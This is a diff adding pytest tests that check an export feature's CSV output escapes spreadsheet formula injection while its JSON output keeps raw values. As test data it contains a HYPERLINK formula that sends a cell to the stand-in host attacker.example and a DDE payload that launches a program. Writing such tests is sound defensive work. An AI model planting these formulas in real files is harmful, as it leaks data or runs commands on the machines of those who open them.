@@ -410,3 +410,51 @@ def test_exports_are_throttled_per_user(admin, monkeypatch):
 
     assert [response.status_code for response in responses] == [200, 200, 429]
     assert responses[-1].json()["error"]["code"] == "throttled"
+
+
+# --- formula injection ------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Click")'
+
+
+def test_csv_text_cells_never_start_a_formula_and_json_keeps_raw_values(admin):
+    event = UserEngagementMetricFactory(
+        user=admin,
+        session_id=HYPERLINK,
+        entity_type="@SUM(1+1)",
+        entity_id="-2+3",
+        duration_seconds=-0.0,
+        metadata={"note": "=1+1"},
+    )
+
+    (row,) = csv_rows(export(admin, format="csv", dataset="engagement"))
+    assert row["session_id"] == "'" + HYPERLINK
+    assert (row["entity_type"], row["entity_id"]) == ("'@SUM(1+1)", "'-2+3")
+    # Metadata is JSON text: it starts with "{", and stays parseable JSON.
+    assert json.loads(row["metadata"]) == {"note": "=1+1"}
+
+    (raw,) = json_rows(export(admin, format="json", dataset="engagement"))
+    assert (raw["session_id"], raw["entity_type"], raw["entity_id"]) == (
+        HYPERLINK,
+        "@SUM(1+1)",
+        "-2+3",
+    )
+    assert event.pk == raw["id"] == int(row["id"])
+
+
+def test_csv_numbers_stay_numbers_even_when_negative(admin):
+    SystemHealthMetricFactory(
+        component="+cmd|' /C calc'!A0",
+        value=-3.5,
+        warning_threshold=-1.0,
+        critical_threshold=-2.0,
+    )
+
+    (row,) = csv_rows(export(admin, format="csv", dataset="system_health"))
+
+    assert row["component"] == "'+cmd|' /C calc'!A0"
+    assert (row["value"], row["warning_threshold"], row["critical_threshold"]) == (
+        "-3.5",
+        "-1.0",
+        "-2.0",
+    )
